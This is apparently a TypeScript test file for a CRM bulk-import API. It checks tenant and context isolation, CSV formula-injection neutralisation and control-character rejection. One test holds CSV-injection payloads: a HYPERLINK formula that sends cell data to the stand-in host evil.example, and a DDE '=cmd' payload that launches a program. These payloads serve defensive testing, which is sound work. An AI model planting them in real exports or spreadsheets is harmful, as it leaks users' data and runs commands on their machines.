/**
 * Bulk imports through the real HTTP server, as an adversary would try them (issue 15):
 * - jobs, uploads and result files are scoped by tenant AND context, like people: a key of the
 *   voter-file context gets 404 for a campaign job and its result file, and cannot start a
 *   job from a campaign upload (nor the other way round);
 * - result files neutralize cells a spreadsheet would run as a formula (OWASP CSV injection).
 */
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { call, clientBody, openImportServer, parseResultCsv, waitForJob, type ImportServer } from './import-helpers.js';

vi.setConfig({ testTimeout: 60_000 });

let s: ImportServer;
/** Keys of tenant acme: one per context, and one with both (default campaign). */
let voter: string;
let campaign: string;
let both: string;

beforeAll(async () => {
  s = await openImportServer();
  await s.crm.createTenant('acme');
  voter = (await s.crm.createKey({ tenant: 'acme', tier: 'Internal', contexts: ['voterfile'], defaultContext: 'voterfile' })).key;
  campaign = (await s.crm.createKey({ tenant: 'acme', tier: 'Internal', contexts: ['campaign'], defaultContext: 'campaign' })).key;
  both = (await s.crm.createKey({ tenant: 'acme', tier: 'Internal', contexts: ['voterfile', 'campaign'], defaultContext: 'campaign' })).key;
}, 30_000);
afterAll(async () => {
  await s.close();
});

async function upload(key: string, text: string): Promise<string> {
  const res = await fetch(`${s.url}/v4/bulkImportFiles`, { method: 'POST', headers: { apiKey: key, 'content-type': 'text/csv' }, body: text });
  expect(res.status).toBe(201);
  return ((await res.json()) as { sourceUrl: string }).sourceUrl;
}

function jobBody(sourceUrl: string, include: readonly string[] = ['email']): Record<string, any> {
  const body = clientBody('parsons-sent-bulk-import-job-request-upsert-contacts.json');
  body.file.sourceUrl = sourceUrl;
  delete body.file.columns; // the header line names them
  body.actions[0].columnsToIncludeInResultsFile = include.map((name) => ({ name }));
  return body;
}

describe('bulk import scope: tenant AND context', () => {
  it('a key of another context gets 404 for the job and its result file, and cannot use the upload', async () => {
    const source = await upload(campaign, 'Vanid,email\n,secret-campaign@example.org\n');
    const created = await call(s, campaign, 'POST', '/v4/bulkImportJobs', jobBody(source));
    expect(created.status).toBe(201);
    const job = await waitForJob(s, campaign, created.json.jobId);
    expect(job.status).toBe('Completed');
    const url = job.resultFiles[0].url as string;

    // The voter-file key (and the two-context key asking for the voter file with |0): 404.
    for (const [key, header] of [
      [voter, voter],
      [both, `${both}|0`],
    ] as const) {
      const peek = await call(s, header, 'GET', `/v4/bulkImportJobs/${job.id}`);
      expect(peek.status, key).toBe(404);
      expect(peek.json).toEqual({ errors: [{ code: 'NOT_FOUND', text: 'The specified resource cannot be found.' }] });
      const file = await fetch(url, { headers: { apiKey: header } });
      expect(file.status).toBe(404);
      expect(await file.text()).not.toContain('secret-campaign');
      const stolen = await call(s, header, 'POST', '/v4/bulkImportJobs', jobBody(source));
      expect(stolen.status).toBe(400);
      expect(stolen.json.errors[0].properties).toEqual(['file.sourceUrl']);
    }
    // The job's own context sees it; the result file needs no key (its name holds the token).
    expect((await call(s, `${both}|1`, 'GET', `/v4/bulkImportJobs/${job.id}`)).status).toBe(200);
    expect((await fetch(url, { headers: { apiKey: campaign } })).status).toBe(200);
    const plain = await fetch(url);
    expect(plain.status).toBe(200);
    expect(await plain.text()).toContain('secret-campaign@example.org');
    // A bad key on the result file is refused like anywhere else.
    expect((await fetch(url, { headers: { apiKey: 'not-a-key' } })).status).toBe(401);
  });

  it('a campaign key cannot start a job from a voter-file upload', async () => {
    const source = await upload(voter, 'Vanid,email\n,voter-only@example.org\n');
    const stolen = await call(s, campaign, 'POST', '/v4/bulkImportJobs', jobBody(source));
    expect(stolen.status).toBe(400);
    expect(stolen.json.errors[0].properties).toEqual(['file.sourceUrl']);
    const own = await call(s, voter, 'POST', '/v4/bulkImportJobs', jobBody(source));
    expect(own.status).toBe(201);
    expect((await waitForJob(s, voter, own.json.jobId)).status).toBe('Completed');
  });
});

describe('result files: formula cells neutralized (OWASP CSV injection)', () => {
  it('a cell or an included column name that starts like a formula is written with a leading quote', async () => {
    const cells = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(1,1)', '\tTAB', '\r=1', '-12', 'plain'];
    const lines = cells.map((c, i) => `,f${i}@example.org,"${c.replace(/"/g, '""')}"`);
    const source = await upload(campaign, `Vanid,email,=cmd|' /C calc'!A0\n${lines.join('\n')}\n`);
    const created = await call(s, campaign, 'POST', '/v4/bulkImportJobs', jobBody(source, ['email', "=cmd|' /C calc'!A0"]));
    expect(created.status).toBe(201);
    const job = await waitForJob(s, campaign, created.json.jobId);
    expect(job).toMatchObject({ status: 'Completed', errors: [] });
    const text = await (await fetch(job.resultFiles[0].url as string)).text();
    const header = text.split('\n', 1)[0] ?? '';
    expect(header.split(',')).toContain("'=cmd|' /C calc'!A0");
    const rows = parseResultCsv(text);
    const column = rows.map((r) => r[`'=cmd|' /C calc'!A0`]);
    expect(column).toEqual(cells.map((c) => (c === '-12' || c === 'plain' ? c : `'${c}`)));
    // No line of the file (outside quotes or within) starts a cell with a formula character.
    for (const row of rows) for (const value of Object.values(row)) expect(value).not.toMatch(/^[=+@\t\r]|^-(?!\d+$)/);
  });
});

describe('control characters in imported rows', () => {
  it('a mapped cell holding NUL, ESC or a bidi override fails its row, naming the field; the other rows go in', async () => {
    const source = await upload(
      campaign,
      'FirstName,LastName,email\nAda\u001b[2J,Lovelace,ada-esc@example.org\nGrace,Hopper\u202e,grace@example.org\nKaty,Johnson,katy@example.org\n',
    );
    const created = await call(s, campaign, 'POST', '/v4/bulkImportJobs', jobBody(source));
    const job = await waitForJob(s, campaign, created.json.jobId);
    expect(job).toMatchObject({ status: 'Completed', rowsDone: 3, rowsFailed: 2 });
    const rows = parseResultCsv(await (await fetch(job.resultFiles[0].url as string)).text());
    expect(rows.map((r) => r['CreateOrUpdateContact'])).toEqual([
      expect.stringMatching(/^FirstName: contains U\+001B \(ESC\)/),
      expect.stringMatching(/^LastName: contains U\+202E \(right-to-left override\)/),
      'Processed',
    ]);
    expect(rows.map((r) => r['PrimaryKey'])).toEqual(['', '', expect.stringMatching(/^\d+$/)]);
  });
});
